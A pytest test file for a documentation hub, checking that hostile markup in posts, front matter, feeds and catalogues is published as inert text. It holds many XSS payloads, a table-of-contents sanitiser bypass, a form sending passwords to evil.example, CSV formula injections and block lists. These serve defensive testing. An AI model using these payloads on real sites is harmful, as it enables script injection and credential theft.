"""Hostile text in every field an item has reaches readers as text, never as live content.

One fixture site per session holds a few dozen generated items: fragments of markup, script,
addresses and spreadsheet formulas, composed by a seeded random generator (set HUB_HOSTILE_SEED
to try other mixes; a failure names the seed) and placed in front matter and in the body forms
the hub accepts (code spans, fences, entity-escaped text, headings and their table-of-contents
labels, link titles and queries, abbreviations, admonition titles, tables, footnotes, task
lists, image descriptions). The build must accept all of it; then the whole output is read the
way browsers, feed readers and spreadsheets read it, and nothing in it may be active:

* pages: no inline script but data blocks, every script a file of the theme's own, no event
  handler or style attribute, no address with a javascript:, vbscript: or data: scheme, no
  frame, plug-in, <base> or refresh, nothing loaded or submitted to another host;
* the JSON-LD blocks, the RSS and JSON feeds, the catalogue (JSON and CSV) and the `_headers`
  policy (the search draws its results in the browser: tests/browser/test_hostile_pages.py);
* and the hostile front matter is still there, shown as text, so items cannot quietly vanish.

`test_heading_ids_are_refused_or_stay_inside_their_attribute` holds the posts of
tests/fixtures/harmless/heading-ids/ to the same rules, if the build publishes them at all.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import shutil
import sys
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urljoin, urlsplit

import pytest
from ishub.assets import svg_problems
from ishub.cells import inert_cell
from ishub.security import content_security_policy, parse_headers_file
from ishub.security import page_problems as problems_of_page
from selectolax.lexbor import LexborHTMLParser

from tests.conftest import FIXTURES, Result, make_site, mkdocs_build, real_config, run

SEED = int(os.environ.get("HUB_HOSTILE_SEED", "20261126"))
POSTS, CASE_STUDIES = 24, 10
SITE_URL = real_config()["site_url"]
SITE_NAME = real_config()["site_name"]
SITE_HOST = urlsplit(SITE_URL).hostname

# Fragments a hostile or careless contributor might type. Whatever form they arrive in, a
# reader must see them as text.
PIECES = [
    "<script>window.__pwned=1</script>",
    "</script>",
    "</title>",
    "</textarea>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg onload=window.__pwned=1>",
    "<iframe src=//evil.example/>",
    '<a href="//evil.example/">',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>*{display:none}</style>",
    "<object data=https://evil.example/x.swf>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "javascript:alert(1)",
    "JaVaScRiPt:window.__pwned=1",
    "jav&#x09;ascript:",
    "&#106;avascript:",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "![x](https://evil.example/p.gif)",
    "[y](javascript:alert(1))",
    '{: onclick="x" }',
    "{: #__config }",
    "&lt;script&gt;",
    "&amp;",
    "&#60;",
    "{{ config.extra }}",
    "{% raw %}",
    "${alert(1)}",
    '=HYPERLINK("https://evil.example/")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\\",
    '"',
    "'",
    "<",
    ">",
    "&",
    "*",
    "_",
    "#",
    "|",
    "\u202e",
    "\u200b",
    "\u2028",
    "🎉",
    "naïve café",
    "日本語",
    "Ω≈ç√",
]
WORDS = ["data", "sharing", "trust", "council", "partners", "records", "the", "and"]
BLOCKED_SCHEMES = {"javascript", "vbscript", "data"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "imagesrcset",
    "xlink:href",
    "poster",
    "data",
    "cite",
    "background",
    "codebase",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "manifest",
    "icon",
    "ping",
    "itemtype",
}
# Elements that fetch what they point to as soon as the page is read.
LOADING = {"img", "script", "iframe", "frame", "source", "video", "audio", "track", "embed", "object"}
LOADING |= {"input", "image", "use", "feimage", "link", "picture", "portal"}
FORBIDDEN = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "fencedframe"}
FORBIDDEN |= {"foreignobject", "animate", "set", "handler", "listener", "noscript", "template"}
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "ping", "formaction", "attributionsrc", "popovertarget"}
DATA_SCRIPTS = {"application/json", "application/ld+json"}
_EDGES = "".join(chr(c) for c in range(0x21))


# --- generating the items ------------------------------------------------------------------


def normalise(text: str) -> str:
    """Front matter text as the hub keeps it: runs of white space made one space."""
    return " ".join(text.split())


def hostile(rng: random.Random, limit: int, pieces: list[str] | None = None) -> str:
    """A few hostile fragments and ordinary words, at most `limit` characters once normalised."""
    pieces = pieces or PIECES
    while True:
        parts = [rng.choice(pieces) for _ in range(rng.randint(1, 6))]
        parts.insert(rng.randint(0, len(parts)), rng.choice(WORDS))
        text = normalise(rng.choice(["", " "]).join(parts))
        if text and len(text) <= limit:
            return text


def entities(text: str) -> str:
    """Markdown text that shows `text` exactly: every ASCII sign written as a character reference."""
    return "".join(f"&#{ord(c)};" if c.isascii() and not c.isalnum() and c != " " else c for c in text)


def code_span(text: str) -> str:
    ticks = "`" * (max((len(m) for m in re.findall(r"`+", text)), default=0) + 1)
    return f"{ticks} {text} {ticks}"


def body_block(rng: random.Random, n: int, slug: str, kind: str) -> str:
    """One block of body text holding hostile text in a form the hub accepts."""
    text = hostile(rng, 200)
    form = rng.choice(
        ["code", "fence", "entities", "heading", "link", "abbr", "admonition", "table", "footnote", "task"]
        + (["image"] if kind == "post" else [])
    )
    if form == "code":
        return f"Marker {slug}-{n} reads {code_span(text)} in a code span."
    if form == "fence":
        lines = "\n".join(hostile(rng, 120) for _ in range(rng.randint(1, 4)))
        return f"Marker {slug}-{n}:\n\n~~~~{rng.choice(['text', 'html', 'js', 'xml', 'yaml'])}\n{lines}\n~~~~"
    if form == "entities":
        return f"Marker {slug}-{n} says {entities(text)} in plain text."
    if form == "heading":
        # The table of contents shows the heading's text, or the label given for it.
        label = f" {{: data-toc-label='{entities(hostile(rng, 80))}' }}" if rng.random() < 0.5 else ""
        return f"## Marker {slug}-{n} {entities(text)}{label}\n\nText under the heading."
    if form == "link":
        title = entities(hostile(rng, 80))
        return f'[Marker {slug}-{n} {entities(text)}](https://example.org/search?q={quote(text)} "{title}")'
    if form == "abbr":
        # The title stays as typed; the source check refuses an <img> without alt text even
        # there, so those fragments are left out of it.
        word = f"ABBR{n}X"
        title = hostile(rng, 200, [p for p in PIECES if "<img" not in p and p != "\u2028"])
        return f"Marker {slug}-{n}: {word} is short.\n\n*[{word}]: {title}"
    if form == "admonition":
        return f'!!! note "{entities(text)}"\n\n    Marker {slug}-{n} inside {code_span(hostile(rng, 60))}.'
    if form == "table":
        return (
            f"| Marker {slug}-{n} | value |\n| --- | --- |\n"
            f"| {entities(text)} | {entities(hostile(rng, 60))} |"
        )
    if form == "footnote":
        return f"Marker {slug}-{n} has a note.[^n{n}]\n\n[^n{n}]: The note says {code_span(text)}."
    if form == "task":
        return f"- [ ] Marker {slug}-{n} {entities(text)}\n- [x] {entities(hostile(rng, 60))}"
    return f"Marker {slug}-{n}: ![{entities(text)}](images/diagram.svg)"


def yaml_text(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


def yaml_list(values: list[str]) -> str:
    return "[" + ", ".join(yaml_text(v) for v in values) + "]"


@dataclass
class Generated:
    kind: str
    slug: str
    url: str
    meta: dict
    markers: list[str] = field(default_factory=list)


def generate(rng: random.Random, root: Path) -> list[Generated]:
    items = []
    themes = ["culture", "governance", "technology"]
    for i in range(POSTS):
        slug = f"hostile-post-{i:02d}"
        meta = {"title": hostile(rng, 120), "summary": hostile(rng, 300)}
        authors = ["mallory"] if i % 3 == 0 else ["ada-author", "ben-writer"][: 1 + i % 2]
        blocks = [body_block(rng, n, slug, "post") for n in range(rng.randint(2, 5))]
        text = (
            "---\n"
            f"title: {yaml_text(meta['title'])}\n"
            f"date: 2026-{1 + i % 10:02d}-{1 + i:02d}\n"
            f"authors: {yaml_list(authors)}\n"
            f"summary: {yaml_text(meta['summary'])}\n"
            f"themes: [{rng.choice(themes)}]\n"
            "---\n\n" + "\n\n".join(blocks) + "\n"
        )
        (root / "blog" / f"2026-{1 + i % 10:02d}-{1 + i:02d}-{slug}.md").write_text(text, encoding="utf-8")
        items.append(Generated("post", slug, f"blog/{slug}/", meta, re.findall(r"Marker \S+", text)))
    for i in range(CASE_STUDIES):
        slug = f"hostile-case-{i:02d}"
        meta = {
            "title": hostile(rng, 120),
            "summary": hostile(rng, 300),
            "organisations": [hostile(rng, 100) for _ in range(rng.randint(1, 3))],
            "place": hostile(rng, 80),
            "partners": [hostile(rng, 100) for _ in range(rng.randint(1, 2))],
            "outcomes": [hostile(rng, 150) for _ in range(rng.randint(1, 3))],
        }
        sections = ["The challenge", "What was done", "What changed", "Lessons", "Contact"]
        blocks = [f"## {s}\n\n{body_block(rng, n, slug, 'case-study')}" for n, s in enumerate(sections)]
        text = (
            "---\n"
            f"title: {yaml_text(meta['title'])}\n"
            f"date: 2025-{1 + i % 12:02d}-{10 + i:02d}\n"
            f"summary: {yaml_text(meta['summary'])}\n"
            f"organisations: {yaml_list(meta['organisations'])}\n"
            f"place: {yaml_text(meta['place'])}\n"
            f"region: {rng.choice(['north-west', 'london', 'wales'])}\n"
            "policy_areas: [domestic-abuse]\n"
            f"themes: [{rng.choice(themes)}]\n"
            f"partners: {yaml_list(meta['partners'])}\n"
            "outcomes:\n"
            + "".join(f"  - {yaml_text(o)}\n" for o in meta["outcomes"])
            + "---\n\n"
            + "\n\n".join(blocks)
            + "\n"
        )
        (root / "case_studies" / f"{slug}.md").write_text(text, encoding="utf-8")
        items.append(
            Generated("case-study", slug, f"case-studies/{slug}/", meta, re.findall(r"Marker \S+", text))
        )
    return items


MALLORY = {
    "name": "</script><script>window.__pwned=1</script> Mallory",
    "role": '"><img src=x onerror=alert(1)>',
    "organisation": "<iframe src=//evil.example/> & Co",
    "bio": '=HYPERLINK("https://evil.example/") <svg onload=alert(1)> ]]> {{ config }}',
}


def add_mallory(root: Path) -> None:
    authors = root / "blog" / "authors.yml"
    lines = "".join(f"    {key}: {yaml_text(value)}\n" for key, value in MALLORY.items())
    authors.write_text(authors.read_text(encoding="utf-8") + "  mallory:\n" + lines, encoding="utf-8")


@dataclass
class HostileSite:
    site: Path
    items: list[Generated]


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory) -> HostileSite:
    root = make_site(tmp_path_factory.mktemp("hostile") / "repo")
    add_mallory(root)
    items = generate(random.Random(SEED), root)
    result = mkdocs_build(root)
    assert result.code == 0, f"seed {SEED}: the build refused generated content:\n{result.text[-4000:]}"
    return HostileSite(root / "site", items)


# --- reading the output as a browser would -------------------------------------------------


def url_of(value: str) -> str:
    """An address as a browser's URL parser reads it: edge controls and spaces trimmed, tabs
    and line breaks dropped anywhere, backslashes read as slashes."""
    return re.sub(r"[\t\n\r]", "", value.strip(_EDGES)).replace("\\", "/")


def scheme_of(value: str) -> str:
    m = re.match(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):", url_of(value))
    return m.group(1).lower() if m else ""


def candidates(name: str, value: str) -> list[str]:
    """The addresses an attribute holds (a srcset holds several)."""
    if name in {"srcset", "imagesrcset"}:
        return [part.strip().split(" ")[0] for part in value.split(",") if part.strip()]
    if name == "ping":
        return value.split()
    return [value]


def is_foreign(value: str) -> bool:
    """Whether an address points at a host other than this site."""
    url = url_of(value)
    scheme = scheme_of(url)
    if not scheme and not url.startswith("//"):
        return False
    if scheme and scheme not in {"http", "https"}:
        return True
    return urlsplit(url if scheme else "https:" + url).hostname != SITE_HOST


def inert_problems(markup: str, where: str, page: Path | None = None, site: Path | None = None) -> list[str]:
    """Everything live in a page (`page` given) or in an HTML fragment from a feed."""
    tree = LexborHTMLParser(markup)
    if tree.root is None:
        return []
    found = []
    for node in tree.root.traverse(include_text=False):
        tag = (node.tag or "").lower()
        if tag.startswith("-"):
            continue
        attrs = {k.lower(): v or "" for k, v in node.attributes.items()}
        if tag in FORBIDDEN:
            found.append(f"{where}: a <{tag}> element")
        if tag == "style":
            found.append(f"{where}: a <style> element")
        if tag == "script":
            found += _script_problems(node, attrs, where, page, site)
        if tag == "meta" and "http-equiv" in attrs:
            equiv = attrs["http-equiv"].strip().lower()
            if equiv != "content-security-policy" or page is None:
                found.append(f"{where}: <meta http-equiv={attrs['http-equiv']!r}>")
            elif attrs.get("content") != content_security_policy(in_meta=True):
                found.append(f"{where}: a page policy other than the hub's: {attrs.get('content')!r}")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{where}: an event handler {name}= on <{tag}>")
            if name in FORBIDDEN_ATTRIBUTES:
                found.append(f"{where}: a {name}= attribute on <{tag}> ({value[:60]!r})")
            if name not in URL_ATTRIBUTES:
                continue
            for url in candidates(name, value):
                if scheme_of(url) in BLOCKED_SCHEMES:
                    found.append(f"{where}: <{tag} {name}={url[:60]!r}> uses the {scheme_of(url)}: scheme")
                elif tag in LOADING and is_foreign(url) and not _declared_link(tag, attrs):
                    found.append(f"{where}: <{tag} {name}={url[:60]!r}> loads from another host")
        if tag in {"form", "button", "input"} and is_foreign(attrs.get("action", "")):
            found.append(f"{where}: <{tag}> submits to another host ({attrs['action'][:60]!r})")
    return found


def _declared_link(tag: str, attrs: dict) -> bool:
    """A <link> that names the page's own public address rather than loading anything."""
    return (
        tag == "link"
        and attrs.get("rel", "").strip().lower() == "canonical"
        and url_of(attrs.get("href", "")).startswith(SITE_URL)
    )


def _script_problems(node, attrs: dict, where: str, page: Path | None, site: Path | None) -> list[str]:
    if page is None:
        return [f"{where}: a <script> element in HTML meant to be shown"]
    if "src" not in attrs:
        kind = attrs.get("type", "").strip().lower()
        if kind not in DATA_SCRIPTS:
            return [f"{where}: an inline script (type {kind!r}): {node.text()[:80]!r}"]
        if kind == "application/ld+json":
            try:
                json.loads(node.text())
            except ValueError as exc:
                return [f"{where}: a JSON-LD block that is not JSON ({exc})"]
        return []
    src = url_of(attrs["src"])
    if scheme_of(src) or src.startswith("//"):
        return [f"{where}: a script from another site ({src[:80]!r})"]
    # Content may publish text, data and images beside itself, never a .js file, and never
    # under assets/: a script must be one of the theme's own files.
    target = urlsplit(urljoin(SITE_URL + page.relative_to(site).as_posix(), src)).path
    base = urlsplit(SITE_URL).path
    target = target[len(base) :] if target.startswith(base) else target
    if not (target.startswith("assets/") and target.endswith(".js")):
        return [f"{where}: a script that is not one of the theme's own files ({src[:80]!r} -> {target})"]
    return []


def page_problems(site: Path) -> list[str]:
    found = []
    for page in sorted(site.rglob("*.html")):
        rel = page.relative_to(site).as_posix()
        text = page.read_text(encoding="utf-8")
        found += inert_problems(text, rel, page, site)
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
            if re.search(r"</script|<!--", block, re.I):
                found.append(f"{rel}: a JSON-LD block holds '</script' or '<!--'")
    return found


def text_of(markup: str) -> str:
    tree = LexborHTMLParser(markup)
    return normalise(tree.body.text(separator=" ") if tree.body else "")


def page_tree(site: Path, url: str) -> LexborHTMLParser:
    return LexborHTMLParser((site / url / "index.html").read_text(encoding="utf-8"))


# --- the tests -----------------------------------------------------------------------------


def test_every_generated_item_is_published(hostile_site):
    missing = [i.url for i in hostile_site.items if not (hostile_site.site / i.url / "index.html").is_file()]
    assert not missing, f"seed {SEED}: {missing}"
    for item in hostile_site.items:
        text = text_of((hostile_site.site / item.url / "index.html").read_text(encoding="utf-8"))
        lost = [m for m in item.markers if m not in text]
        assert not lost, f"seed {SEED}: {item.url} lost body blocks {lost}"


def test_no_page_carries_active_content(hostile_site):
    problems = page_problems(hostile_site.site)
    assert not problems, f"seed {SEED}:\n" + "\n".join(problems[:40])


def test_every_page_carries_the_policy_first_in_its_head(hostile_site):
    policy = content_security_policy(in_meta=True)
    for page in hostile_site.site.rglob("*.html"):
        head = LexborHTMLParser(page.read_text(encoding="utf-8")).head
        first = next((n for n in head.iter(include_text=False)), None) if head else None
        assert first is not None and first.tag == "meta", page
        assert first.attributes.get("http-equiv") == "Content-Security-Policy", page
        assert first.attributes.get("content") == policy, page


def test_front_matter_is_shown_as_text(hostile_site):
    site = hostile_site.site
    for item in hostile_site.items:
        tree = page_tree(site, item.url)
        where = f"seed {SEED}: {item.url}"
        assert normalise(tree.css_first("article h1").text()) == item.meta["title"], where
        assert normalise(tree.css_first("title").text()).startswith(item.meta["title"]), where
        description = tree.css_first('meta[name="description"]').attributes["content"]
        assert normalise(description) == item.meta["summary"], where
        share = {m.attributes["property"]: m.attributes.get("content") for m in tree.css("meta[property]")}
        assert normalise(share["og:title"]) == item.meta["title"], where
        assert normalise(share["og:description"]) == item.meta["summary"], where
        assert normalise(tree.css_first("title").text()) == f"{item.meta['title']} - {SITE_NAME}", where
        if item.kind == "case-study":
            panel = normalise(tree.css_first(".hub-panel").text(separator=" "))
            for value in [item.meta["place"], *item.meta["partners"], *item.meta["outcomes"]]:
                assert value in panel, f"{where}: {value!r} not in the panel"
            assert ", ".join(item.meta["organisations"]) in panel, where


def test_listings_show_titles_and_summaries_as_text(hostile_site):
    site = hostile_site.site
    pages = [
        *site.glob("blog/index.html"),
        *site.glob("blog/page/*/index.html"),
        site / "case-studies/index.html",
    ]
    text = " ".join(text_of(p.read_text(encoding="utf-8")) for p in pages)
    for item in hostile_site.items:
        assert item.meta["title"] in text, f"seed {SEED}: {item.meta['title']!r} is not in any listing"


def test_hostile_author_is_shown_as_text(hostile_site):
    post = next(i for i in hostile_site.items if i.slug == "hostile-post-00")
    text = text_of((hostile_site.site / post.url / "index.html").read_text(encoding="utf-8"))
    assert MALLORY["name"] in text
    tree = page_tree(hostile_site.site, post.url)
    assert tree.css_first('meta[name="author"]').attributes["content"] == MALLORY["name"]
    assert tree.css_first('meta[property="article:author"]').attributes["content"] == MALLORY["name"]


def test_json_ld_round_trips_front_matter(hostile_site):
    for item in hostile_site.items:
        tree = page_tree(hostile_site.site, item.url)
        blocks = [json.loads(s.text()) for s in tree.css('script[type="application/ld+json"]')]
        assert any(b.get("headline") == item.meta["title"] for b in blocks), item.url
        assert any(b.get("description") == item.meta["summary"] for b in blocks), item.url


RSS_CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"


def test_rss_feeds_parse_and_their_html_is_inert(hostile_site):
    feeds = sorted((hostile_site.site / "feeds").rglob("*.xml"))
    assert feeds
    titles, problems = set(), []
    for path in feeds:
        root = ET.fromstring(path.read_bytes())
        if root.tag != "rss":
            continue  # the empty sitemaps beside the feeds
        for node in root.iter("item"):
            titles.add(node.findtext("title"))
            where = f"{path.name}: {node.findtext('link')}"
            problems += inert_problems(node.findtext("description") or "", f"{where} description")
            problems += inert_problems(node.findtext(RSS_CONTENT) or "", f"{where} content:encoded")
    assert not problems, f"seed {SEED}:\n" + "\n".join(problems[:40])
    generated = {i.meta["title"] for i in hostile_site.items}
    assert generated & titles, "no generated item reached an RSS feed"


def test_rss_descriptions_show_summaries_as_text(hostile_site):
    root = ET.fromstring((hostile_site.site / "feeds" / "all.xml").read_bytes())
    summaries = {i.meta["title"]: i.meta["summary"] for i in hostile_site.items}
    seen = 0
    for node in root.iter("item"):
        title = node.findtext("title")
        if title in summaries:
            seen += 1
            assert text_of(node.findtext("description")) == summaries[title]
    assert seen


def test_json_feeds_parse_and_their_html_is_inert(hostile_site):
    feeds = sorted((hostile_site.site / "feeds").rglob("*.json"))
    assert feeds
    problems, seen = [], 0
    titles = {i.meta["title"]: i.meta["summary"] for i in hostile_site.items}
    for path in feeds:
        for entry in json.loads(path.read_text(encoding="utf-8"))["items"]:
            problems += inert_problems(entry.get("content_html", ""), f"{path.name}: {entry['url']}")
            if entry["title"] in titles:
                seen += 1
                assert entry["summary"] == titles[entry["title"]]
    assert not problems, f"seed {SEED}:\n" + "\n".join(problems[:40])
    assert seen


def test_catalogue_csv_cells_cannot_start_a_formula(hostile_site):
    text = (hostile_site.site / "catalogue.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{row['slug']} {column}: {cell!r}"
    # A cell that would start a formula gets a leading apostrophe; any other is as written.
    by_slug = {row["slug"]: row for row in rows}
    for item in hostile_site.items:
        for column in ("title", "summary"):
            value = item.meta[column]
            expected = "'" + value if value.startswith(("=", "+", "-", "@")) else value
            assert by_slug[item.slug][column] == expected, f"seed {SEED}: {item.slug} {column}"


def test_catalogue_json_parses_and_keeps_text(hostile_site):
    data = json.loads((hostile_site.site / "catalogue.json").read_text(encoding="utf-8"))
    by_slug = {entry["slug"]: entry for entry in data["items"]}
    for item in hostile_site.items:
        entry = by_slug[item.slug]
        assert entry["title"] == item.meta["title"] and entry["summary"] == item.meta["summary"]
        if item.kind == "case-study":
            assert entry["place"] == item.meta["place"]
            assert entry["organisations"] == item.meta["organisations"]


def test_headers_allow_only_the_sites_own_scripts(hostile_site):
    headers = parse_headers_file((hostile_site.site / "_headers").read_text(encoding="utf-8"))
    policy = headers["Content-Security-Policy"]
    directives = {d.split()[0]: d.split()[1:] for d in (p.strip() for p in policy.split(";")) if d}
    # 'wasm-unsafe-eval' lets the search compile its WebAssembly; it runs no script text.
    assert set(directives["script-src"]) - {"'wasm-unsafe-eval'"} == {"'self'"}
    assert directives["object-src"] == ["'none'"] and directives["base-uri"] == ["'self'"]
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    assert headers["X-Content-Type-Options"] == "nosniff"


def test_the_checks_see_active_content():
    """The checks above find what they look for: each of these is reported."""
    live = [
        "<script>alert(1)</script>",
        '<p onclick="x">a</p>',
        '<a href="java\tscript:alert(1)">a</a>',
        '<a href=" JAVASCRIPT:alert(1)">a</a>',
        '<img src="data:image/png;base64,AA">',
        '<img src="//evil.example/p.gif">',
        '<img srcset="a.png 1x, https://evil.example/p.gif 2x">',
        '<iframe src="a.html"></iframe>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"></form>',
        '<a href="#x" ping="https://evil.example/">a</a>',
        '<a href="#x" style="position:fixed">a</a>',
        '<svg><a xlink:href="javascript:alert(1)">a</a></svg>',
        "<base href=//evil.example/>",
    ]
    for markup in live:
        assert inert_problems(markup, "sample"), markup
    assert not inert_problems(
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; <code>&lt;b onclick=x&gt;</code></p>", "s"
    )
    site = Path("/site")
    page = site / "blog" / "x" / "index.html"
    assert _script_problems(None, {"src": "../files/note.txt"}, "s", page, site)
    assert _script_problems(None, {"src": "../../docs/assets/x.txt"}, "s", page, site)
    assert not _script_problems(None, {"src": "../../assets/javascripts/hub-content.js"}, "s", page, site)
    assert not _script_problems(None, {"src": "/assets/shortcuts.js"}, "s", site / "404.html", site)


HEADING_IDS = FIXTURES / "harmless" / "heading-ids"
HEADING_ID_POSTS = sorted(p.relative_to(HEADING_IDS).as_posix() for p in HEADING_IDS.glob("blog/*.md"))


def build_heading_ids(tmp: Path, posts: list[str]) -> tuple[Result, Path]:
    root = make_site(tmp / "repo")
    shutil.copytree(HEADING_IDS / "blog" / "files", root / "blog" / "files")
    for post in posts:
        shutil.copy(HEADING_IDS / post, root / post)
    return mkdocs_build(root), root / "site"


def names(result: Result, post: str) -> bool:
    """Whether a refused build names the post as the cause (a content or a page problem)."""
    return re.search(rf"^(?:ERROR\s+-\s+)?{re.escape(post)}:", result.text, re.M) is not None


@pytest.fixture(scope="module")
def heading_ids_build(tmp_path_factory) -> tuple[Result, Path]:
    return build_heading_ids(tmp_path_factory.mktemp("heading-ids"), HEADING_ID_POSTS)


@pytest.mark.parametrize("post", HEADING_ID_POSTS)
def test_heading_ids_are_refused_or_stay_inside_their_attribute(heading_ids_build, post, tmp_path):
    # Each post's second heading sets an id holding a quote (and, in most, escaped angle
    # brackets). The body is safe either way; the theme also writes the id, as it is, into the
    # table of contents and the skip link. The build must refuse the post, naming it, or
    # publish a page where the id stays inside its attribute.
    result, site = heading_ids_build
    if result.code != 0:
        if names(result, post):
            return  # refused, with the file named
        result, site = build_heading_ids(tmp_path, [post])  # refused for another post's sake
    if result.code != 0:
        assert names(result, post), result.text[-3000:]
        return
    slug = re.sub(r"^\d{4}-\d{2}-\d{2}-", "", Path(post).stem)
    page = site / "blog" / slug / "index.html"
    problems = inert_problems(page.read_text(encoding="utf-8"), f"{post} (published)", page, site)
    assert not problems, "\n".join(problems)
    tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
    assert "Second section" in text_of(tree.html), f"{post}: the article is gone"


# --- headings whose table-of-contents entry a pattern would leave markup in -----------------

# Markdown's toc extension cuts "<!--" to "-->" out of a heading's HTML before it strips tags,
# even inside an attribute value, and its tag pattern does not see `q=1=1` as part of a tag: what
# is left behind is markup, and the theme prints table-of-contents entries unescaped.
_OPEN = '<abbr title="<!--">A</abbr><abbr title=\'-->" >'
TOC_PAYLOADS = {
    "svg-link": "<svg width=300 height=30 q=1=1><a xlink:href=javascript:alert(document.domain) q=1=1>"
    "<text x=0 y=20 q=1=1>Continue reading",
    "form": "<form action=https://evil.example/collect?a=b q=1=1><input name=password type=password q=1=1>"
    "Continue reading",
    "button": "<button formaction=javascript:alert(1) q=1=1>Continue reading",
    "referrer": "<meta name=referrer content=unsafe-url q=1=1>Continue reading",
    "policy": "<meta http-equiv=Content-Security-Policy content=x q=1=1>Continue reading",
    "preconnect": "<link rel=preconnect href=https://evil.example/ q=1=1>Continue reading",
    "style": "<style q=1=1>*{display:none}</style>Continue reading",
    "config": '<script id=__config type=application/json q=1=1>{"base":"//evil.example"}</script>Continue reading',
}


@pytest.fixture(scope="module")
def toc_site(tmp_path_factory) -> tuple[Result, Path]:
    root = make_site(tmp_path_factory.mktemp("toc") / "repo")
    headings = "\n\n".join(
        f"## Part {name} {_OPEN}{payload}'>B</abbr> {{: #part-{name} }}\n\nA paragraph about part {name}."
        for name, payload in TOC_PAYLOADS.items()
    )
    front = "---\ntitle: Headings that hide markup\ndate: 2024-02-02\nauthors: [ada-author]\n"
    front += "summary: Headings written to leave markup in the contents.\nthemes: [culture]\n---\n\n"
    (root / "blog" / "2024-02-02-toc-markup.md").write_text(front + "Opening.\n\n" + headings + "\n")
    return mkdocs_build(root), root / "site"


def test_table_of_contents_entries_are_text_whatever_the_heading_holds(toc_site):
    result, site = toc_site
    assert result.code == 0, result.text
    page = (site / "blog" / "toc-markup" / "index.html").read_text(encoding="utf-8")
    tree = LexborHTMLParser(page)
    tocs = tree.css("nav.md-nav--secondary")
    assert tocs, "the post has no table of contents"
    for toc in tocs:
        # The theme's own parts of a table of contents, and nothing else.
        assert {n.tag for n in toc.traverse(include_text=False)} <= {"nav", "label", "span", "ul", "li", "a"}
        texts = [a.text(deep=True) for a in toc.css("a.md-nav__link")]
        for name in TOC_PAYLOADS:
            entry = next(t for t in texts if f"Part {name}" in t)
            assert "Continue reading" in entry, entry
    # Nothing of the payloads is anywhere on the page: its forms, buttons, inputs, styles and
    # links are the theme's own, as on any other post.
    watched = "form, button, input, style, body meta, body link, svg a"
    plain = LexborHTMLParser((site / "blog" / "first-post" / "index.html").read_text(encoding="utf-8"))
    assert [(n.tag, n.attributes) for n in tree.css(watched)] == [
        (n.tag, n.attributes) for n in plain.css(watched)
    ]
    assert len(tree.css("script#__config")) == 1
    for node in tree.root.traverse(include_text=False):
        for name, value in node.attributes.items():
            assert scheme_of(value or "") not in ("javascript", "vbscript"), (node.tag, name, value)


def test_theme_classes_are_refused_in_content(tmp_path):
    root = make_site(tmp_path / "repo")
    post = root / "blog" / "2024-02-03-overlay.md"
    front = "---\ntitle: Overlay\ndate: 2024-02-03\nauthors: [ada-author]\nsummary: A link as a page.\n"
    front += "themes: [culture]\n---\n\nOpening.\n\n"
    post.write_text(
        front + "[Sign in again](https://evil.example/login){: .md-consent__overlay }\n", encoding="utf-8"
    )
    result = mkdocs_build(root)
    assert result.code != 0
    assert "blog/2024-02-03-overlay.md:11" in result.err, result.err
    assert "the class 'md-consent__overlay' is not one the site styles for content" in result.err
    # What content may use still builds: an admonition, a button link, highlighted code.
    post.write_text(
        front
        + '!!! warning "Check first"\n\n    Ask the data protection officer.\n\n'
        + "[Subscribe](../subscribe.md){: .md-button }\n\n"
        + "```python\nprint('shared')\n```\n",
        encoding="utf-8",
    )
    result = mkdocs_build(root)
    assert result.code == 0, result.text
    page = (root / "site" / "blog" / "overlay" / "index.html").read_text(encoding="utf-8")
    assert 'class="admonition warning"' in page and 'class="md-button"' in page


@pytest.mark.parametrize(
    ("inside", "reason"),
    [
        ("<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "links to a javascript: address"),
        ("<svg><a href='jav&#x61;script:alert(1)'>x</a></svg>", "links to a javascript: address"),
        ("<svg><use href='https://evil.example/i.svg#a'></use></svg>", "loads <use> from another site"),
        ("<svg><image xlink:href='//evil.example/p.png'></image></svg>", "loads <image> from another site"),
        ("<form action='https://evil.example/collect'><input name=p></form>", "sends a form to another site"),
        ("<button formaction='javascript:alert(1)'>Go</button>", "sends a form to a javascript: address"),
        ("<form><input type=submit formaction='data:text/html,x'></form>", "sends a form to a data: address"),
    ],
)
def test_the_page_check_reads_svg_links_and_where_forms_send(inside, reason):
    found = problems_of_page(f"<html><head></head><body><p>{inside}</p></body></html>")
    assert any(reason in problem for problem in found), found
    # The theme's own kinds pass: an icon, a form that stays on the page, a local link in an SVG.
    theme = "<svg><path d='M0 0'></path><a href='#top'>t</a></svg><form role=search><button>b</button></form>"
    assert problems_of_page(f"<html><head></head><body>{theme}</body></html>") == []


@pytest.mark.parametrize(
    "attribute",
    [
        "cursor='\\75 rl(http://evil.example/c.png), auto'",
        "mask='\\75 rl(http://evil.example/m.svg#m)'",
        "filter='\\000075rl(http://evil.example/f.svg#f)'",
        "fill='u\\72l(http://evil.example/p.svg#p)'",
